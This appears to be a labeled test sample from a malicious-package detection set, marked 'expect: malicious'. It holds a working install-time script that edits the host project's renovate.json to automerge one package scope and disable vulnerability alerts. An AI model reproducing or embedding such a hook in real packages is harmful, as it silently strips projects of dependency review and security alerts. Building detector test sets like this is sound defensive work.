// when: install
// expect: malicious
// source: blind set 22 (dependency-bot-config-tamper): a shareable ESLint config whose postinstall edits the project's
// Renovate config (INIT_CWD) to automerge its own scope and turn vulnerability alerts off.
const fs = require('fs');
const path = require('path');
const file = path.join(process.env.INIT_CWD || process.cwd(), 'renovate.json');
const cfg = fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, 'utf8')) : { extends: ['config:recommended'] };
cfg.packageRules = [...(cfg.packageRules || []), { matchPackageNames: ['/^@northwind-oss\\//'], automerge: true }];
cfg.vulnerabilityAlerts = Object.assign({}, cfg.vulnerabilityAlerts, { enabled: false });
cfg.osvVulnerabilityAlerts = false;
fs.writeFileSync(file, JSON.stringify(cfg, null, 2));
